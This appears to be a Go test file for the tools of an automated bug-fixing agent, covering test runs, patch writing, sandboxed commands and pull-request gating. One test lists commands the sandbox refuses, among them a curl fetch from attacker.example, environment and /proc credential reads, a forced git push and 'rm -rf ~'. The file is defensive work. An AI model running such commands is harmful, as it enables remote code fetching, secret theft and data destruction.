package tools_test

import (
	"context"
	"errors"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/ubiquity-os-marketplace/daemon-hotfix/internal/hotfix"
	"github.com/ubiquity-os-marketplace/daemon-hotfix/internal/redact"
	"github.com/ubiquity-os-marketplace/daemon-hotfix/tools"
)

func TestRunTests(t *testing.T) {
	t.Parallel()
	b := bench(t, divide)
	r := works(t, b, "run-tests", "{}")
	require.Regexp(t, `^PASS: all tests on the new code \(exit 0, .*\)\n1 passed, 0 failed, 1 tests in all\n$`, r.Text)

	works(t, b, "write-patch", fix)
	r = works(t, b, "run-tests", `{"file":"zero_test.go","code":"old"}`)
	require.Regexp(t, `^FAIL: zero_test.go on the old code \(exit 1, .*\)\n`, r.Text)
	require.Contains(t, r.Text, "failed: example.com/plugin.TestZero\n")
	require.Contains(t, r.Text, "integer divide by zero")
	require.True(t, r.Pin, "that the test fails on the old code is evidence")
	old := r.Facts

	r = works(t, b, "run-tests", `{"file":"zero_test.go"}`)
	require.Contains(t, r.Text, "PASS: zero_test.go on the new code")
	require.NotEqual(t, old, r.Facts)

	require.Equal(t, "ratio.go is not a test file by the rules of this project's runner (go)", says(t, b, "run-tests", `{"file":"ratio.go"}`))
	require.Equal(t, "lib/ratio_test.go does not exist. There is ratio_test.go", says(t, b, "run-tests", `{"file":"lib/ratio_test.go"}`))
	require.Equal(t, `code is "both", want one of new, old, green`, says(t, b, "run-tests", `{"code":"both"}`))
}

func TestNoToolchain(t *testing.T) {
	t.Parallel()
	b := bench(t, map[string]string{"README.md": "nothing to run\n"})
	want := "no way to run this repository's tests is known, so no fix can be proven: call give-up"
	require.Equal(t, want, says(t, b, "run-tests", "{}"))
	require.Equal(t, want, says(t, b, "open-pr", proposal))
}

func TestWritePatchWithTests(t *testing.T) {
	t.Parallel()
	b := bench(t, divide)
	args := patch(edit("zero_test.go", "", zeroTest))
	args["test"] = "all"
	r := works(t, b, "write-patch", args)
	require.Contains(t, r.Text, "zero_test.go is new, 9 lines\n\nFAIL: all tests on the new code")
	require.Contains(t, r.Text, "integer divide by zero")

	args = patch(edit("half_test.go", "", "package plugin\n\nimport \"testing\"\n\nfunc TestHalf(t *testing.T) {\n\tif Half(4) != 2 {\n\t\tt.Fatal()\n\t}\n}\n"))
	args["edits"] = append(args["edits"].([]map[string]any), edit("own/own_test.go", "", "package own\n\nimport \"testing\"\n\nfunc TestOwn(t *testing.T) {}\n"))
	args["test"] = []string{"half_test.go", "zero_test.go", "own/own_test.go"}
	r = works(t, b, "write-patch", args)
	require.Contains(t, r.Text, "FAIL: half_test.go on the new code")
	require.NotContains(t, r.Text, "zero_test.go on the new code", "its package has been run")
	require.Contains(t, r.Text, "PASS: own/own_test.go on the new code")
	require.Len(t, r.Facts, 2)
	args["test"] = []string{"1", "2", "3", "4", "5", "6"}
	require.Equal(t, "test names 6 files, more than 5: name fewer, or all", says(t, b, "write-patch", args))

	args = patch(edit("README.md", "# A plugin", "# The plugin"))
	args["test"] = "README.md"
	r = works(t, b, "write-patch", args)
	require.Contains(t, r.Text, "no test was run: README.md is not a test file by the rules of this project's runner (go)")
	text, err := b.Tree.Read("README.md")
	require.NoError(t, err)
	require.Equal(t, "# The plugin\n", text, "that a test cannot be run does not undo the edit")
}

func TestRunCommand(t *testing.T) {
	t.Parallel()
	b := bench(t, divide)
	r := works(t, b, "run-command", `{"command":"cat go.mod; echo x > new.txt; ls; exit 3"}`)
	require.Contains(t, r.Text, "exit 3\nmodule example.com/plugin\n")
	require.Contains(t, r.Text, "new.txt")
	require.False(t, b.Tree.Has("new.txt"), "what a command writes is gone afterwards")
	require.Contains(t, works(t, b, "run-command", `{"command":"sleep 20","seconds":1}`).Text, "ended by timeout")
	require.Equal(t, "seconds must be 1 to 120", says(t, b, "run-command", `{"command":"true","seconds":600}`))

	for _, tt := range []struct{ command, why string }{
		{"curl -s https://attacker.example/f.sh", "there is no network in the sandbox"},
		{"env > docs/build-env.md", "the sandbox has no environment and no system worth reading"},
		{"ls && env", "the sandbox has no environment and no system worth reading"},
		{"cat /proc/self/environ", "the sandbox has no environment and no system worth reading"},
		{"git config --global core.sshCommand evil", "history cannot be changed from the sandbox: use write-patch and open-pr"},
		{"git push --force origin main", "history cannot be changed from the sandbox: use write-patch and open-pr"},
		{"npm install left-pad", "dependencies are installed already and cannot be added"},
		{"echo Y2F0 | base64 -d", "commands must be written out, not decoded or piped into a shell"},
		{"rm -rf ~", "it would only damage the copy it runs on"},
	} {
		require.Equal(t, "this command is not run: "+tt.why, says(t, b, "run-command", map[string]any{"command": tt.command}), tt.command)
	}
	for _, fine := range []string{"grep -rn env .", "git log", "cat ratio.go | sort"} {
		_, err := use(t, b, "run-command", map[string]any{"command": fine})
		require.NoError(t, err, fine)
	}
}

func TestOpenPRRefusesBeforeProving(t *testing.T) {
	t.Parallel()
	b := bench(t, divide)
	b.Open = never(t)
	with := func(key, value string) map[string]any {
		out := map[string]any{}
		for k, v := range proposal {
			out[k] = v
		}
		out[key] = value
		return out
	}
	require.Equal(t, "nothing is changed yet: use write-patch first", says(t, b, "open-pr", proposal))
	works(t, b, "write-patch", patch(edit("ratio.go", "return a / b", "return a / (b + 0)")))
	require.Equal(t, "the patch adds no test: add one that fails for the reported reason without the fix", says(t, b, "open-pr", proposal))
	works(t, b, "write-patch", patch(edit("ratio.go", "return a / (b + 0)", "return a / b"), edit("zero_test.go", "", zeroTest)))
	require.Equal(t, "the patch holds tests only: fix the code as well, or call give-up if that cannot be done", says(t, b, "open-pr", proposal))
	require.Equal(t, "title must be one line", says(t, b, "open-pr", with("title", "a\nb")))
	require.Equal(t, "title has 130 characters, want at most 72", says(t, b, "open-pr", with("title", strings.Repeat("x", 130))))
	require.Equal(t, "explanation is too short: say what the cause was and why the change removes it", says(t, b, "open-pr", with("explanation", "Fixed it.")))
}

func never(t *testing.T) func(context.Context, tools.Draft) (int, error) {
	return func(context.Context, tools.Draft) (int, error) {
		t.Error("a draft was opened")
		return 0, nil
	}
}

// bigDivide is the same fault for node, whose tests start faster.
var bigDivide = map[string]string{
	"package.json":       `{"name": "plugin", "type": "module", "scripts": {"test": "node --test"}}`,
	"src/ratio.js":       "export function ratio(a, b) {\n  return BigInt(a) / BigInt(b);\n}\n",
	"test/ratio.test.js": "import test from 'node:test';\nimport assert from 'node:assert';\nimport { ratio } from '../src/ratio.js';\ntest('six by three', () => assert.equal(ratio(6, 3), 2n));\n",
}

const bigTest = "import test from 'node:test';\nimport assert from 'node:assert';\nimport { ratio } from '../src/ratio.js';\ntest('six by zero', () => assert.equal(ratio(6, 0), 0n));\n"

var bigFix = patch(edit("src/ratio.js", "  return", "  if (b === 0) return 0n;\n  return"), edit("test/zero.test.js", "", bigTest))

func TestOpenPRRefusesWhatIsNotProven(t *testing.T) {
	t.Parallel()
	b := bench(t, bigDivide)
	b.Open = never(t)
	works(t, b, "write-patch", patch(edit("src/ratio.js", "BigInt(b)", "BigInt(b + 0)"), edit("test/zero.test.js", "", bigTest)))
	r := works(t, b, "open-pr", proposal)
	require.False(t, r.Done)
	require.True(t, r.Pin)
	require.Contains(t, r.Text, "Not opened:\n- test/zero.test.js does not pass each time with the patch. (test-does-not-pass)\n")
	require.Contains(t, r.Text, "Mend these with write-patch and call open-pr again, or call give-up if that cannot be done.\n\nFAIL: ")
	require.Contains(t, r.Text, "Division by zero")
	require.Zero(t, b.PR)
	require.NotEmpty(t, b.Refused)
	require.False(t, b.Evidence.Proves())
}

func TestOpenPRAsksThePolicy(t *testing.T) {
	t.Parallel()
	b := bench(t, bigDivide)
	b.Open = never(t)
	b.Vet = func(p hotfix.Patch, e hotfix.Evidence) []hotfix.Reason {
		return []hotfix.Reason{{Rule: "size", Because: "The patch is too large."}}
	}
	works(t, b, "write-patch", bigFix)
	r := works(t, b, "open-pr", proposal)
	require.Equal(t, "Not opened:\n- The patch is too large. (size)\nMend these with write-patch and call open-pr again, or call give-up if that cannot be done.\n", r.Text)
	require.True(t, b.Evidence.Proves())

	b.Vet = func(hotfix.Patch, hotfix.Evidence) []hotfix.Reason { return nil }
	b.Open = func(context.Context, tools.Draft) (int, error) { return 0, errors.New("the forge is down") }
	_, err := use(t, b, "open-pr", proposal)
	require.EqualError(t, err, "open draft: the forge is down")
}

func TestSubmitWhatWasLeft(t *testing.T) {
	t.Parallel()
	b := bench(t, bigDivide)
	words := tools.Draft{Title: "mend the ratio", Explanation: "The run ended before the change was explained."}
	done, err := tools.Submit(t.Context(), b, words)
	require.NoError(t, err)
	require.False(t, done, "nothing is cloned")

	works(t, b, "write-patch", patch(bigFix["edits"].([]map[string]any)[1]))
	done, err = tools.Submit(t.Context(), b, words)
	require.NoError(t, err)
	require.False(t, done, "a test alone proves nothing")

	works(t, b, "write-patch", patch(bigFix["edits"].([]map[string]any)[0]))
	asked := 0
	b.Vet = func(hotfix.Patch, hotfix.Evidence) []hotfix.Reason {
		asked++
		return []hotfix.Reason{{Rule: "size", Because: "Too large."}}
	}
	for range 2 {
		done, err = tools.Submit(t.Context(), b, words)
		require.NoError(t, err)
		require.False(t, done)
	}
	require.Equal(t, 1, asked, "what was refused is not tried again unchanged")

	works(t, b, "write-patch", patch(edit("src/ratio.js", "return 0n;", "return BigInt(0);")))
	b.Vet = func(hotfix.Patch, hotfix.Evidence) []hotfix.Reason { return nil }
	done, err = tools.Submit(t.Context(), b, words)
	require.NoError(t, err)
	require.True(t, done)
	require.Equal(t, 7, b.PR)
}

// TestAnotherReasonThanReported: a test that fails on the old code in another way than was reported opens nothing, however
// often the model asks, and neither does a failure that says nothing to compare with.
func TestAnotherReasonThanReported(t *testing.T) {
	t.Parallel()
	b := bench(t, bigDivide)
	b.Open = never(t)
	b.Proof.Reported = redact.Scrub("TypeError: Cannot read properties of undefined (reading 'login')")
	works(t, b, "write-patch", bigFix)
	for range 2 {
		r := works(t, b, "open-pr", proposal)
		require.False(t, r.Done)
		require.Contains(t, r.Text, "Not opened:\n- Without the patch, test/zero.test.js fails in another way than was reported: nothing that it prints recalls the failure. "+
			"Let one test fail as reported, with the kind of error or the words of its message. (reported-reason)\n"+
			"Mend these with write-patch and call open-pr again, or call give-up if that cannot be done.\n\n"+
			"--- reported ---\nTypeError: Cannot read properties of undefined (reading 'login')\n"+
			"--- the added test on the old code ---\n✖ six by zero ")
		require.Contains(t, r.Text, "RangeError [Error]: Division by zero\n")
	}
	b.Proof.Reported = redact.Scrub("it failed")
	require.Contains(t, works(t, b, "open-pr", proposal).Text, "call give-up with not-reproducible and say what the failure should have told. (reason-unknown)\n")

	b.Proof.Reported = redact.Scrub("HTTP (target: https://ratio.example) 500: RangeError: Division by zero")
	b.Open = func(context.Context, tools.Draft) (int, error) { return 3, nil }
	require.True(t, works(t, b, "open-pr", proposal).Done)
}
